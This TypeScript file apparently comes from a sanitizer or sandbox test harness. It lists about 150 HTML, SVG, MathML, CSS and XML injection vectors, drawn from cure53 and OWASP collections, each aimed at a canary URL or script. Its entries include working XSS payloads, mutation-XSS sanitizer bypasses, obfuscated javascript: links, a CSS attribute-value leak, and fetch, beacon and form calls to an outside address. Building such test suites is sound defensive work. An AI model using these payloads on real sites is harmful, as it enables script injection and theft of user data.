/** Way in which a page tries to run, load, navigate or speak to others. */
export interface Vector {
  readonly name: string;
  readonly markup: (canary: Canary) => string;
  /** Content type of the page; HTML by default. */
  readonly type?: string;
  /** True if a click on the element with `data-go` sets it off. */
  readonly needsClick?: boolean;
  /** True if it is a link that readers may follow where the page is opened itself. */
  readonly isLink?: boolean;
  /** True for what another browser or another parser falls for: it is tried, but this Chromium does nothing even without protection. */
  readonly isDormant?: boolean;
}

/** Targets of a vector; each of them names the vector. */
export interface Canary {
  /** URL whose requests are counted. */
  readonly at: string;
  /** Host to look for among the names looked up. */
  readonly host: string;
  /** Script that tells where it runs; without double quotes, spaces and angle brackets. */
  readonly run: string;
}

type Markup = Vector['markup'];

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

const dataUrl = (type: string, text: string) => `data:${type};base64,${Buffer.from(text).toString('base64')}`;

/**
 * Ways to act, after the collections of cure53 (H5SC, HTTPLeaks, the cases of DOMPurify) and OWASP's cheat sheet on filter evasion.
 * Each sets off in Chromium when nothing protects it.
 */
const AWAKE: Readonly<Record<string, Markup>> = {
  'script, inline': ({ run }) => `<script>${run}</script>`,
  'script, module': ({ run }) => `<script type=module>${run}</script>`,
  'script, from an address': ({ at }) => `<script src="${at}"></script>`,
  'script, from a data URL': ({ run }) => `<script src="${dataUrl('text/javascript', run)}"></script>`,
  'script, in SVG': ({ run }) => `<svg><script>${run}</script></svg>`,
  'script, in SVG from an address': ({ at }) => `<svg><script href="${at}" /></svg>`,
  'script, in a declared shadow tree': ({ run }) =>
    `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  'script, that writes another': ({ run }) => `<script>document.write("<img src=x onerror=${run}>")</script>`,

  'handler, onerror of an image': ({ run }) => `<img src=x: onerror="${run}">`,
  'handler, without spaces': ({ run }) => `<img/src/onerror=${run}>`,
  'handler, onload of the body': ({ run }) => `<body onload="${run}">`,
  'handler, onload of SVG': ({ run }) => `<svg onload="${run}">`,
  'handler, onload of a frame': ({ run }) => `<iframe onload="${run}"></iframe>`,
  'handler, onload of a style sheet': ({ run }) => `<style onload="${run}">a{}</style>`,
  'handler, onerror of a source': ({ run }) => `<video><source src=x: onerror="${run}"></video>`,
  'handler, onerror of a style sheet': ({ run }) => `<link rel=stylesheet href=x: onerror="${run}">`,
  'handler, ontoggle': ({ run }) => `<details open ontoggle="${run}">x</details>`,
  'handler, onfocus of what focuses itself': ({ run }) => `<input autofocus onfocus="${run}">`,
  'handler, onanimationstart': ({ run }) =>
    `<style>@keyframes a{to{left:0}}</style><p style="animation:a 1s" onanimationstart="${run}">`,
  'handler, onbegin of an animation': ({ run }) =>
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'handler, onanimationend of an unknown element': ({ run }) =>
    `<style>@keyframes a{to{left:0}}x-y{display:block;animation:a 10ms}</style><x-y onanimationend="${run}">x</x-y>`,

  'refresh, at once': ({ at }) => `<meta http-equiv=refresh content="0;url=${at}">`,
  'refresh, with quotes': ({ at }) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${at}'">`,
  'refresh, in a frame': ({ at }) =>
    `<iframe srcdoc='<meta http-equiv=refresh content="0;url=${at}">'></iframe>`,
  'base, of an image': ({ at }) => `<base href="${at}"><img src="?base">`,

  'link, style sheet': ({ at }) => `<link rel=stylesheet href="${at}">`,
  'link, preloaded image': ({ at }) => `<link rel=preload as=image href="${at}">`,
  'link, preloaded image set': ({ at }) => `<link rel=preload as=image imagesrcset="${at} 1x">`,
  'link, preloaded script': ({ at }) => `<link rel=preload as=script href="${at}">`,
  'link, preloaded font': ({ at }) => `<link rel=preload as=font crossorigin href="${at}">`,
  'link, preloaded data': ({ at }) => `<link rel=preload as=fetch crossorigin href="${at}">`,
  'link, prefetch': ({ at }) => `<link rel=prefetch href="${at}">`,
  'link, modulepreload': ({ at }) => `<link rel=modulepreload href="${at}">`,
  'link, in the body': ({ at }) => `<body><p><link rel="alternate preload" as=style href="${at}">`,

  'frame, address': ({ at }) => `<iframe src="${at}"></iframe>`,
  'frame, srcdoc': ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame, javascript:': ({ run }) => `<iframe src="javascript:${run}"></iframe>`,
  'frame, javascript: in pieces': ({ run }) => `<iframe src="jAva&Tab;scr&NewLine;ipt:${run}"></iframe>`,
  'frame, data:': ({ run }) => `<iframe src="${dataUrl('text/html', `<script>${run}</script>`)}"></iframe>`,
  'frame, frameset': ({ at }) => `<frameset><frame src="${at}"></frameset>`,
  'object, address': ({ at }) => `<object data="${at}"></object>`,
  'object, page': ({ run }) =>
    `<object type=text/html data="${dataUrl('text/html', `<script>${run}</script>`)}"></object>`,
  'embed, address': ({ at }) => `<embed src="${at}">`,
  'embed, drawing': ({ run }) =>
    `<embed type=image/svg+xml src="${dataUrl('image/svg+xml', `<svg ${SVG}><script>${run}</script></svg>`)}">`,

  'image, src': ({ at }) => `<img src="${at}">`,
  'image, by its other name': ({ at }) => `<image src="${at}">`,
  'image, srcset': ({ at }) => `<img srcset=",,,${at}">`,
  'image, source': ({ at }) => `<picture><source srcset="${at}"><img></picture>`,
  'image, button': ({ at }) => `<input type=image src="${at}">`,
  'image, background of the body': ({ at }) => `<body background="${at}">`,
  'image, background of a cell': ({ at }) => `<table><tr><td background="${at}">x`,
  'image, in a declared shadow tree': ({ at }) =>
    `<div><template shadowrootmode=closed><img src="${at}"></template></div>`,
  'media, video': ({ at }) => `<video src="${at}" autoplay muted></video>`,
  'media, poster': ({ at }) => `<video poster="${at}"></video>`,
  'media, audio': ({ at }) => `<audio src="${at}" preload=auto></audio>`,

  'style, @import': ({ at }) => `<style>@import "${at}";</style>`,
  'style, @import in SVG': ({ at }) => `<svg><style>@import url(${at});</style></svg>`,
  'style, background': ({ at }) => `<p style="background:url(${at})">x`,
  'style, in escapes': ({ at }) => `<p style="background:\\75\\72\\6c(${at})">x`,
  'style, variable': ({ at }) => `<p style="--a:url(${at});background:var(--a)">x`,
  'style, image-set': ({ at }) => `<p style="background:image-set('${at}' 1x)">x`,
  'style, font': ({ at }) =>
    `<style>@font-face{font-family:f;src:url(${at})}</style><p style="font-family:f">x`,
  'style, content': ({ at }) => `<style>p::before{content:url(${at})}</style><p>x`,
  'style, value of an attribute': ({ at }) =>
    `<style>input[value^=s]{background:url(${at})}</style><input value=secret>`,
  'style, list marker': ({ at }) => `<li style="list-style:url(${at})">x`,
  'style, mask': ({ at }) => `<p style="mask:url(${at}#m)">x`,

  'SVG, image': ({ at }) => `<svg><image href="${at}" width=9 height=9 /></svg>`,
  'SVG, image with a prefix': ({ at }) => `<svg><image xlink:href="${at}" width=9 height=9 /></svg>`,
  'SVG, image in a filter': ({ at }) =>
    `<svg><filter id=f><feImage href="${at}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  'SVG, foreign object': ({ run }) =>
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  'MathML, HTML inside': ({ run }) => `<math><mtext><img src=x: onerror="${run}"></mtext></math>`,
  'MathML, annotation': ({ run }) =>
    `<math><annotation-xml encoding="text/html"><img src=x: onerror="${run}"></annotation-xml></math>`,

  'comment, that ends early': ({ run }) => `<!--><img src=x: onerror="${run}">-->`,
  'comment, that ends with --!>': ({ run }) => `<!-- a --!><img src=x: onerror="${run}">-->`,
  'declaration, that is a comment': ({ run }) =>
    `<!foo="><img src=x: onerror='${run.replaceAll("'", '`')}'>">`,
  'character data, outside drawings': ({ run }) => `<![CDATA[><img src=x: onerror="${run}">]]>`,

  'network, fetch': ({ at, run }) => `<script>${run};fetch('${at}',{mode:'no-cors',keepalive:true})</script>`,
  'network, WebSocket': ({ at }) => `<script>new WebSocket('${at.replace('http', 'ws')}')</script>`,
  'network, EventSource': ({ at }) => `<script>new EventSource('${at}')</script>`,
  'network, beacon': ({ at }) => `<script>navigator.sendBeacon('${at}','x')</script>`,
  'network, worker': ({ at }) =>
    `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${at}',{mode:'no-cors'})"])))</script>`,
  'network, speculation rules': ({ at }) =>
    `<script type=speculationrules>{"prefetch":[{"urls":["${at}"],"eagerness":"immediate"}]}</script>`,
  'message, to the parent': ({ run }) => `<script>parent.postMessage('hi','*');${run}</script>`,
  'message, by the name of the window': ({ run }) => `<script>window.name='hi';${run}</script>`,
  'message, through storage': ({ run }) => `<script>${run};localStorage.x=1</script>`,
  'navigation, of itself': ({ at }) => `<script>location='${at}'</script>`,
  'navigation, of the top': ({ at }) => `<script>top.location='${at}'</script>`,
  'dialog, alert': ({ run }) => `<script>setTimeout(()=>alert('hi'));${run}</script>`,
  'form, that submits itself': ({ at }) =>
    `<form action="${at}" method=post><input name=a></form><script>document.forms[0].submit()</script>`,
};

/** Ways that need a click. */
const CLICKED: Readonly<Record<string, Markup>> = {
  'click, handler': ({ run }) => `<p data-go onclick="${run}">x</p>`,
  'click, javascript:': ({ run }) => `<a data-go href="javascript:${run}">x</a>`,
  'click, javascript: behind a control character': ({ run }) =>
    `<a data-go href="&#1;javascript:${run}">x</a>`,
  'click, link in a drawing': ({ run }) =>
    `<svg><a data-go xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  'click, link that an animation changes': ({ run }) =>
    `<svg><a data-go><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  'click, link that is set': ({ run }) =>
    `<svg><a data-go><set attributeName=href to="javascript:${run}"/><text y=20>x</text></a></svg>`,
  'click, download of data': ({ run }) =>
    `<a data-go download=x.html href="${dataUrl('text/html', run)}" onclick="${run}">x</a>`,
  'click, form': ({ at }) => `<form action="${at}"><button data-go>x</button></form>`,
  'click, form in a popup': ({ at }) =>
    `<form action="${at}" target=_blank><button data-go>x</button></form>`,
  'click, form of another button': ({ at }) =>
    `<form id=f></form><button data-go form=f formaction="${at}">x</button>`,
  'click, form that runs': ({ run }) =>
    `<form><button data-go formaction="javascript:${run}">x</button></form>`,
  'click, label of a hidden button': ({ at }) =>
    `<form action="${at}"><label data-go for=b>x</label><button id=b hidden></button></form>`,
};

/** Links, which need a click and may be followed by choice. */
const LINKS: Readonly<Record<string, Markup>> = {
  'click, popup': ({ at }) => `<a data-go target=_blank href="${at}">x</a>`,
  'click, popup by base': ({ at }) => `<base target=_blank><a data-go href="${at}">x</a>`,
  'click, top': ({ at }) => `<a data-go target=_top href="${at}">x</a>`,
  'click, link': ({ at }) => `<a data-go href="${at}">x</a>`,
  'click, ping': ({ at }) => `<a data-go href="#" ping="${at}">x</a>`,
  'click, area': ({ at }) =>
    `<img data-go src="${GIF}" width=50 height=50 usemap="#m"><map name=m><area coords="0,0,50,50" href="${at}"></map>`,
  'click, download': ({ at }) => `<a data-go download href="${at}">x</a>`,
};

/**
 * Vectors of other browsers, or effective only after a page is serialized and parsed again. Headless Chromium
 * takes no hints.
 */
const DORMANT: Readonly<Record<string, Markup>> = {
  'link, dns-prefetch': ({ host }) => `<link rel=dns-prefetch href="//${host}">`,
  'link, preconnect': ({ host }) => `<link rel=preconnect href="http://${host}">`,
  'script, after text that looks like one': ({ run }) => `<scr<script>${run}</script>ipt>`,
  'again, noscript': ({ run }) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`,
  'again, mglyph': ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  'again, nested forms': ({ run }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>`,
  'again, style in SVG': ({ run }) => `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
  'again, title in a text area': ({ run }) =>
    `<textarea><title></textarea>&lt;script>${run}</script></title>`,
  'again, xmp': ({ run }) => `<xmp></xmp><p title="</xmp><script>${run}</script>">`,
  'again, noembed': ({ run }) => `<noembed><p title="</noembed><script>${run}</script>"></noembed>`,
  'again, plaintext': ({ run }) => `<plaintext><script>${run}</script>`,
  'again, template in a list': ({ run }) => `<select><template><script>${run}</script></template></select>`,
  'again, template': ({ run }) => `<template><img src=x: onerror="${run}"></template>`,
  'again, character data in a drawing': ({ run }) =>
    `<svg><![CDATA[</svg><img src=x: onerror=${run}>]]></svg>`,
  'again, annotation': ({ run }) =>
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x: onerror=${run}>">`,
  'again, quotes in a name': ({ run }) => `<p a"onclick=${run}" b='>'title="'><img src=x: onerror=${run}>">`,
  'again, address': ({ run }) => `<a href='http://x/"><img src=x: onerror=${run}>'>x</a>`,
  'drawing in an image': ({ run, at }) =>
    `<img src="${dataUrl('image/svg+xml', `<svg ${SVG} onload="${run}"><image href="${at}"/></svg>`)}">`,
  'use of another drawing': ({ run }) =>
    `<svg><use href="${dataUrl('image/svg+xml', `<svg ${SVG}><script id=s>${run}</script></svg>`)}#s"/></svg>`,
  'style, expression': ({ run }) => `<p style="x:expression(${run})">x`,
  'style, binding': ({ at }) => `<p style="-moz-binding:url(${at}#x);behavior:url(${at})">x`,
  'link, import': ({ at }) => `<link rel=import href="${at}"><link rel=prerender href="${at}">`,
  'link, icon and manifest': ({ at }) =>
    `<link rel="shortcut icon" href="${at}"><link rel=manifest href="${at}"><link rel=search href="${at}">`,
  'meta, reports': ({ at }) =>
    `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri ${at}"><img src=/x>`,
  'meta, cookie': () => '<meta http-equiv=Set-Cookie content="gleaner=x">',
  'portal and fenced frame': ({ at }) =>
    `<portal src="${at}"></portal><fencedframe src="${at}"></fencedframe>`,
  'applet and sound': ({ at }) =>
    `<applet code="${at}"></applet><bgsound src="${at}"><img dynsrc="${at}" lowsrc="${at}">`,
  'app manifest': ({ at }) => `<html manifest="${at}"><p>x`,
  'conditional comment': ({ run }) => `<!--[if true]><script>${run}</script><![endif]-->`,
  'refresh, to data': ({ run }) =>
    `<meta http-equiv=refresh content="0;url=${dataUrl('text/html', `<script>${run}</script>`)}">`,
};

/** Pages in other formats than HTML. */
const OTHER_TYPES: readonly Vector[] = [
  {
    name: 'document, drawing',
    type: 'image/svg+xml',
    markup: ({ run }) => `<svg ${SVG}><script>${run}</script></svg>`,
  },
  {
    name: 'document, XHTML',
    type: 'application/xhtml+xml',
    markup: ({ run }) => `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${run}">x</body></html>`,
  },
  {
    name: 'document, XHTML in XML',
    type: 'text/xml',
    markup: ({ run }) => `<r><s:script xmlns:s="http://www.w3.org/1999/xhtml">${run}</s:script></r>`,
  },
  {
    name: 'document, style sheet of XML',
    type: 'text/xml',
    markup: ({ at }) => `<?xml-stylesheet type="text/css" href="${at}"?><r>x</r>`,
  },
  {
    name: 'document, text that looks like HTML',
    type: 'text/plain',
    markup: ({ run }) => `<script>${run}</script>`,
    isDormant: true,
  },
  {
    name: 'document, JSON that looks like HTML',
    type: 'application/json',
    markup: ({ run }) => JSON.stringify({ a: `</pre><script>${run}</script>` }),
    isDormant: true,
  },
  {
    name: 'document, UTF-7',
    type: 'text/html; charset=utf-7',
    markup: ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    isDormant: true,
  },
  {
    name: 'document, ISO-2022-JP',
    type: 'text/html; charset=iso-2022-jp',
    markup: ({ run }) => `<img alt="\u001b$@"><img alt="\u001b(B src=x: onerror=${run} x=">`,
    isDormant: true,
  },
];

/** All ways, by group. */
export const VECTORS: readonly Vector[] = [
  ...listed(AWAKE, {}),
  ...listed(CLICKED, { needsClick: true }),
  ...listed(LINKS, { needsClick: true, isLink: true }),
  ...listed(DORMANT, { isDormant: true }),
  ...OTHER_TYPES,
];

function listed(table: Readonly<Record<string, Markup>>, traits: Partial<Vector>): Vector[] {
  return Object.entries(table).map(([name, markup]) => ({ name, markup, ...traits }));
}
